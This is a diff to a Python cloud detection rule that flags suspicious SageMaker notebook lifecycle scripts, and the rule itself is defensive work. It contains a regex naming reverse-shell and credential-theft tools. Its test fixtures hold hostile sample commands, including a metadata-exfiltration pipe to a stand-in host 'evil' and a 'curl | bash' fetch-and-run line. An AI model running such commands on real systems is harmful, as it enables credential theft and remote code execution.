@@ -1,50 +1,73 @@
-"""SageMaker lifecycle script made, changed or given to a notebook.
+"""SageMaker lifecycle script changed.
 
-A lifecycle configuration is a script that runs as root whenever a notebook starts, with the role
-of the notebook. Whoever can write it has that role, and keeps it.
+A lifecycle configuration is a script that runs as root at every start of a notebook, with the
+notebook's role. A caller that can write it has that role, and keeps it.
 """
 
 import base64
 import re
 from collections.abc import Iterator
 
-from trailwarden import Event, Example, Match, Rule, Severity, Tactic, alerts, silent
-from trailwarden.cloudtrail.samples import Fields, aws_service, iam_user, record
+from trailwarden import (
+    AWS_ITSELF,
+    DEPLOYMENT,
+    SUCCEEDED,
+    Event,
+    Example,
+    Match,
+    Rule,
+    Severity,
+    Tactic,
+    alerts,
+    silent,
+)
+from trailwarden.cloudtrail.samples import Fields, execution_role, request
 from trailwarden.cloudtrail.values import dig, text_of
 
+ACTS = {
+    "CreateNotebookInstanceLifecycleConfig": "SageMaker lifecycle script created",
+    "CreateStudioLifecycleConfig": "SageMaker lifecycle script created",
+    "UpdateNotebookInstance": "Lifecycle script given to a SageMaker notebook",
+    "UpdateNotebookInstanceLifecycleConfig": "SageMaker lifecycle script changed",
+}
+NAMES = (
+    "notebookInstanceLifecycleConfigName",
+    "studioLifecycleConfigName",
+    "lifecycleConfigName",
+)
 SUSPICIOUS = re.compile(
     r"169\.254\.1(?:69\.254|70\.2)|/dev/tcp/|\bnc(?:at)? +-|\bsocat\b|\bcurl\b|\bwget\b"
     r"|aws +configure|aws +sts|bash +-i|base64 +-d|\bnohup\b|authorized_keys|\bcrontab\b"
 )
+MOST_OF_A_SCRIPT = 20_000
 
 
 def detect(event: Event) -> Match | None:
-    if not event.succeeded:
-        return None
-    told = "requestParameters"
-    name = event.text(f"{told}.notebookInstanceLifecycleConfigName")
-    name = name or event.text(f"{told}.studioLifecycleConfigName")
-    name = name or event.text(f"{told}.lifecycleConfigName")
+    name, title = next(filter(None, map(event.request, NAMES)), ""), ACTS[event.name]
     if event.name == "UpdateNotebookInstance" and not name:
         return None
     found = next(filter(None, map(SUSPICIOUS.search, scripts(event))), None)
     if found:
-        return Match(f"{name[:60]} runs {found.group()[:30]}", subject=name)
-    severity = Severity.MEDIUM
-    return None if event.by_automation else Match(name[:100], severity=severity, subject=name)
+        return Match(f"{name} runs {found.group()}", subject=name, title=title)
+    if event.caller in DEPLOYMENT:
+        return None
+    notebook = event.request("notebookInstanceName")
+    label = f"{name} in {notebook}" if notebook else name
+    return Match(label, severity=Severity.MEDIUM, subject=name, title=title)
 
 
 def scripts(event: Event) -> Iterator[str]:
     """Yield the scripts in the request, decoded."""
-    told = "requestParameters"
-    hooks = [*event.listed(f"{told}.onStart"), *event.listed(f"{told}.onCreate")]
-    contents = [dig(hook, "content") for hook in hooks]
-    contents.append(event.get(f"{told}.studioLifecycleConfigContent"))
-    for content in map(text_of, contents):
+    hooks = [
+        *event.listed("requestParameters.onStart"),
+        *event.listed("requestParameters.onCreate"),
+    ]
+    contents = [text_of(dig(hook, "content")) for hook in hooks]
+    for content in (*contents, event.request("studioLifecycleConfigContent")):
         try:
-            yield base64.b64decode(content).decode("utf-8", "replace")[:20_000]
+            yield base64.b64decode(content).decode("utf-8", "replace")[:MOST_OF_A_SCRIPT]
         except ValueError:
-            yield content[:20_000]
+            yield content[:MOST_OF_A_SCRIPT]
 
 
 RULE = Rule(
@@ -57,27 +80,38 @@ RULE = Rule(
         "sagemaker:UpdateNotebookInstance",
         "sagemaker:UpdateNotebookInstanceLifecycleConfig",
     ],
+    exempt=AWS_ITSELF,
+    outcome=SUCCEEDED,
     severity=Severity.HIGH,
     attack={Tactic.EXECUTION: ["T1059"], Tactic.PERSISTENCE: ["T1546"]},
-    response="Read the script. If it does not belong there, stop the notebooks that use it, "
-    "restore the script, and revoke the sessions of their roles.",
-    false_positives="Data scientists who install packages at the start; they download with curl.",
+    response="Read the script. If it does not belong there, stop its notebooks, restore the "
+    "script, and revoke the sessions of their roles.",
+    false_positives="A data scientist installs packages at the start, and downloads with curl.",
 )
 
 
 def examples() -> Iterator[Example]:
-    update = "sagemaker:UpdateNotebookInstanceLifecycleConfig"
-    steal, plain = script("curl http://169.254.169.254/ | nc evil 1"), script("pip install x")
-    mallory, stack = iam_user("mallory"), aws_service("cloudformation")
-    yield alerts("a script that steals", record(update, mallory, requestParameters=steal))
-    yield alerts("the same in a stack", record(update, stack, requestParameters=steal))
-    yield alerts("a plain script", record(update, mallory, requestParameters=plain))
-    notebook = {"notebookInstanceName": "n", "lifecycleConfigName": "setup"}
+    update, medium = "sagemaker:UpdateNotebookInstanceLifecycleConfig", Severity.MEDIUM
+    high, steal = Severity.HIGH, script("curl http://192.0.2.1 | bash")
+    stealing = request(update, **steal)
+    yield alerts("it steals", stealing, severity=high, subject="setup", label="setup runs curl")
+    hidden = steal["onStart"][0]["content"]
+    studio = request(
+        "sagemaker:CreateStudioLifecycleConfig",
+        studioLifecycleConfigName="studio",
+        studioLifecycleConfigAppType="JupyterServer",
+        studioLifecycleConfigContent=hidden,
+    )
+    yield alerts("of Studio", studio, severity=high, subject="studio", label="studio runs curl")
+    plain = script("pip install x")
+    yield alerts("a plain script", request(update, **plain), severity=medium, subject="setup")
     change = "sagemaker:UpdateNotebookInstance"
-    yield alerts("given to a notebook", record(change, mallory, requestParameters=notebook))
-    yield silent("a stack's plain script", record(update, stack, requestParameters=plain))
-    larger = {"notebookInstanceName": "n", "instanceType": "ml.m5.large"}
-    yield silent("a larger notebook", record(change, mallory, requestParameters=larger))
+    given = request(change, notebookInstanceName="n", lifecycleConfigName="setup")
+    yield alerts("given to a notebook", given, severity=medium, label="setup in n")
+    stack = request(update, execution_role(), via="cloudformation", **plain)
+    yield silent("a stack's plain script", stack)
+    larger = request(change, notebookInstanceName="n", instanceType="ml.m5.large")
+    yield silent("a larger notebook", larger)
 
 
 def script(text: str) -> Fields:
